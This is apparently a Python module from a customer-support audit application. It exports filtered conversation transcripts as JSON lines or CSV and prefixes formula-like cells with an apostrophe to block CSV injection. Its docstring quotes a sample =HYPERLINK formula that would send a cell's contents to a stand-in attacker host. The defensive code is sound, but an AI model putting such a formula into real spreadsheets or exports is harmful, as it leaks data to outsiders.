"""Export of a filtered set of conversations as JSON lines or CSV, safe to open in a spreadsheet.

A CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets
skip before reading a formula) is a formula to Excel, LibreOffice and Google Sheets: a customer who types
``=HYPERLINK("https://evil.example/?"&A1, "click")`` would otherwise get a live formula into the compliance
team's workbook (CSV injection, OWASP). Such cells get a leading apostrophe, which spreadsheets read as "this
is text" and do not display; quoting and separators are left to the ``csv`` module.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator, Iterable
from datetime import datetime
from typing import Any

from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.audit import repository
from app.audit.schemas import AuditTranscript, ConversationFilters, TurnTrace
from app.audit.trace import load_transcript
from app.models.base import utcnow

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CHUNK_CHARS = 64 * 1024
PAGE = 50

CONVERSATION_COLUMNS = [
    "conversation_id",
    "conversation_created_at",
    "customer_id",
    "customer_name",
    "variant",
    "status",
    "handed_off",
    "flagged",
    "turn",
    "turn_kind",
    "message_id",
    "at",
    "role",
    "author",
    "content",
    "intents",
    "confidence",
    "routes",
    "flags",
    "compliance",
    "tool_calls",
    "actions",
    "model_calls",
    "tokens",
    "cost_usd_micros",
]


def neutralise(value: Any) -> Any:
    """A cell value a spreadsheet will show as text, never run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class CsvBuffer:
    """``csv.writer`` over a string buffer; every row's cells neutralised."""

    def __init__(self) -> None:
        self.buffer = io.StringIO()
        self.writer = csv.writer(self.buffer)

    def row(self, cells: Iterable[Any]) -> None:
        self.writer.writerow([neutralise(c) for c in cells])

    def take(self) -> str:
        text = self.buffer.getvalue()
        self.buffer.seek(0)
        self.buffer.truncate()
        return text

    def __len__(self) -> int:
        return self.buffer.tell()


def _compact(value: Any) -> str:
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False, default=str)


def transcript_rows(t: AuditTranscript) -> list[list[Any]]:
    """One CSV row per message (customer, assistant, staff), with the turn's trace on the customer's row."""
    c = t.conversation
    head = [
        str(c.id),
        c.created_at.isoformat(),
        str(c.customer_id),
        c.customer_name or "",
        c.variant,
        c.status.value,
        c.handed_off,
        c.flagged,
    ]
    rows: list[list[Any]] = []

    def message_row(turn: TurnTrace, kind: str, m: Any, role: str, author: str, trace: list[Any]) -> None:
        rows.append(
            [*head, turn.index, kind, str(m.id) if m else "", (m.created_at.isoformat() if m else ""), role]
            + [author, m.content if m else "", *trace]
        )

    blank = [""] * 10
    for turn in t.turns:
        trace = [
            " ".join(x.intent or "" for x in turn.triage),
            " ".join(f"{x.confidence:.4f}" for x in turn.triage if x.confidence is not None),
            " ".join(r.flow for r in turn.routes),
            " ".join(turn.flags),
            " ".join(c.outcome for c in turn.compliance),
            _compact([x.model_dump(mode="json") for x in turn.tool_calls]) if turn.tool_calls else "",
            _compact([x.model_dump(mode="json") for x in turn.actions]) if turn.actions else "",
            len(turn.model_calls),
            turn.tokens,
            turn.cost_usd_micros,
        ]
        message_row(turn, turn.kind, turn.customer_message, "customer", "customer", trace)
        for reply in turn.replies:
            message_row(turn, "reply", reply, "assistant", "assistant", blank)
        for event in turn.staff:
            if event.message is not None:
                author = event.message.author_name or str(event.message.author_staff_id or "")
                message_row(turn, event.kind, event.message, "staff", author, blank)
            else:
                rows.append(
                    [
                        *head,
                        turn.index,
                        event.kind,
                        "",
                        event.at.isoformat(),
                        "staff",
                        event.actor,
                        "",
                        *blank,
                    ]
                )
    return rows


async def export_conversations(
    factory: async_sessionmaker[AsyncSession], filters: ConversationFilters, fmt: str
) -> AsyncIterator[str]:
    """The filtered set as it stood when the export began, oldest first, one short transaction per page.

    A conversation started during the walk is not included; none appears twice (keyset paging).
    """
    upto = utcnow()
    if filters.created_to is not None and filters.created_to < upto:
        upto = filters.created_to
    out = CsvBuffer()
    if fmt == "csv":
        out.row(CONVERSATION_COLUMNS)
        yield out.take()
    after: tuple[datetime, uuid.UUID] | None = None
    while True:
        async with factory() as session:
            page = await repository.conversations_after(session, filters, after=after, upto=upto, limit=PAGE)
            transcripts = [await load_transcript(session, c.id) for c, _ in page]
        if not page:
            return
        after = (page[-1][0].created_at, page[-1][0].id)
        chunk: list[str] = []
        for t in transcripts:
            if fmt == "jsonl":
                chunk.append(_compact(t.model_dump(mode="json")) + "\n")
            else:
                for row in transcript_rows(t):
                    out.row(row)
                if len(out) >= CHUNK_CHARS:
                    chunk.append(out.take())
        if fmt == "csv":
            chunk.append(out.take())
        yield "".join(chunk)
